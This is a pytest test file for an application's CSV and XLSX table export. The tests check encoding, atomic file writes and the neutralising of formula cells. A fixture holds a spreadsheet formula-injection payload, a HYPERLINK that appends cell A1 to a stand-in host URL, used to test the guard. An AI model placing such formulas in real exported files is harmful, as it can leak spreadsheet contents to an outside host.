"""Exported files: the table and nothing else, whole or not at all, and nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import errno
import gc
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from xlsxwriter.worksheet import CellStringTuple

from desktop.adapters.exports.table_files import csv_bytes, write_table, xlsx_bytes
from desktop.domain.csv_guard import guarded
from desktop.domain.errors import DeskError, DiskFull, FileInUse, FileNotWritten
from desktop.domain.exported import ExportedTable
from desktop.domain.honest_text import honest

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
TABLE = ExportedTable(
    "OAuth consumers",
    ("Name", "Key"),
    (("Órdenes – ejemplo", "sample-key-1"), (FORMULA, "+1"), ('a "b"; c, d', "two\nlines")),
)
SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CELLS = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}


def cells(content: bytes) -> list[list[str]]:
    """Of the first sheet; fails when one of them isn't text."""
    files = parts(content)
    strings = [
        "".join(text.text or "" for text in one.iter(f"{SPREADSHEET}t"))
        for one in ElementTree.fromstring(files["xl/sharedStrings.xml"]).iter(f"{SPREADSHEET}si")
    ]
    found = []
    for row in ElementTree.fromstring(files["xl/worksheets/sheet1.xml"]).iter(f"{SPREADSHEET}row"):
        line = []
        for cell in row.iter(f"{SPREADSHEET}c"):
            assert cell.find(f"{SPREADSHEET}f") is None
            value = cell.find(f"{SPREADSHEET}v")
            if value is None:
                line.append("")
            else:
                assert cell.get("t") == "s"
                line.append(strings[int(value.text or "")])
        found.append(line)
    return found


def read_csv(content: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def test_a_csv_file_has_a_mark_and_every_cell_guarded() -> None:
    content = csv_bytes(TABLE)
    assert content.startswith(b"\xef\xbb\xbfName,Key\r\n")
    assert read_csv(content) == [
        ["Name", "Key"],
        ["Órdenes – ejemplo", "sample-key-1"],
        [f"'{FORMULA}", "'+1"],
        ['a "b"; c, d', "two\nlines"],
    ]


def test_the_separator_is_the_languages() -> None:
    content = csv_bytes(ExportedTable("", ("a", "b"), (("1;2", "3,4"),), ";"))
    assert content == b'\xef\xbb\xbfa;b\r\n"1;2";3,4\r\n'


@given(st.lists(st.tuples(CELLS, CELLS), max_size=4).map(tuple), st.sampled_from([",", ";"]))
def test_any_csv_is_read_again_as_it_was_but_for_the_guard(
    rows: tuple[tuple[str, str], ...], separator: str
) -> None:
    content = csv_bytes(ExportedTable("", ("a", "b"), rows, separator))
    assert read_csv(content, separator)[1:] == [[guarded(honest(cell)) for cell in row] for row in rows]


def test_a_workbook_holds_texts_only_and_to_the_letter() -> None:
    content = xlsx_bytes(TABLE)
    assert cells(content) == [list(TABLE.headings), *(list(row) for row in TABLE.rows)]
    assert not [name for name in parts(content) if "externalLink" in name or "vba" in name.lower()]
    assert 'name="OAuth consumers"' in parts(content)["xl/workbook.xml"]


@pytest.mark.parametrize("title", ["", "a/b:c*?[d]\\", "'" * 40, "x" * 200, "' '"])
def test_any_title_gives_a_sheet(title: str) -> None:
    assert cells(xlsx_bytes(ExportedTable(title, ("a",), ()))) == [["a"]]


def test_half_a_surrogate_pair_stops_nothing(tmp_path: Path) -> None:
    table = ExportedTable("t", ("a",), (("\ud800!",),))
    assert read_csv(csv_bytes(table))[1] == ["�!"]
    assert cells(xlsx_bytes(table))[1] == ["�!"]


@pytest.mark.parametrize("name", ["list.csv", "list.CSV", "list.xlsx", "list", "ünï – 1.xlsx"])
def test_the_name_says_which_kind(tmp_path: Path, name: str) -> None:
    write_table(tmp_path / name, TABLE)
    content = (tmp_path / name).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf" if name.lower().endswith(".csv") else b"PK")
    assert [file.name for file in tmp_path.iterdir()] == [name]


def test_what_had_the_name_is_replaced(tmp_path: Path) -> None:
    file = tmp_path / "list.csv"
    file.write_text("before")
    write_table(file, TABLE)
    assert read_csv(file.read_bytes())[0] == ["Name", "Key"]


def test_a_folder_that_is_gone_or_in_the_way_is_named(tmp_path: Path) -> None:
    with pytest.raises(FileNotWritten) as caught:
        write_table(tmp_path / "gone" / "list.csv", TABLE)
    assert caught.value.file == str(tmp_path / "gone" / "list.csv")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(FileNotWritten):
        write_table(tmp_path / "folder.csv", TABLE)
    assert [file.name for file in tmp_path.iterdir()] == ["folder.csv"]


@pytest.mark.parametrize(
    ("refused", "number", "told"),
    [
        ("write_bytes", errno.ENOSPC, DiskFull),
        ("write_bytes", errno.EDQUOT, DiskFull),
        ("write_bytes", errno.EACCES, FileNotWritten),
        ("write_bytes", errno.EROFS, FileNotWritten),
        ("replace", errno.EACCES, FileInUse),  # as Windows says it of a file that Excel has open
        ("replace", errno.EIO, FileNotWritten),
    ],
)
def test_when_it_cannot_be_written_what_was_there_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, refused: str, number: int, told: type[DeskError]
) -> None:
    file = tmp_path / "list.xlsx"
    file.write_text("before")

    def no(*_: object) -> None:
        raise OSError(number, "refused")

    with monkeypatch.context() as patched:
        patched.setattr(Path, refused, no)
        with pytest.raises(told):
            write_table(file, TABLE)
    assert file.read_text() == "before"
    assert list(tmp_path.iterdir()) == [file]


def test_a_file_held_by_another_program_on_windows_is_told_apart(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Held(OSError):
        winerror = 32

    def no(*_: object) -> None:
        raise Held(errno.EACCES, "refused")

    monkeypatch.setattr(Path, "write_bytes", no)
    with pytest.raises(FileInUse):
        write_table(tmp_path / "list.csv", TABLE)


@pytest.mark.parametrize("text", ["<r></x></r>", "<r><t>bold</t></r>", "<r></r>"])
def test_a_text_that_looks_like_a_workbooks_own_words_stays_a_text(text: str) -> None:
    assert cells(xlsx_bytes(ExportedTable("t", ("a",), ((text,),)))) == [["a"], [text]]


def test_nothing_is_left_of_a_workbooks_rows_for_the_search_for_garbage() -> None:
    gc.disable()
    try:
        xlsx_bytes(TABLE)
        assert not [one for one in gc.get_objects() if type(one) is CellStringTuple]
    finally:
        gc.enable()
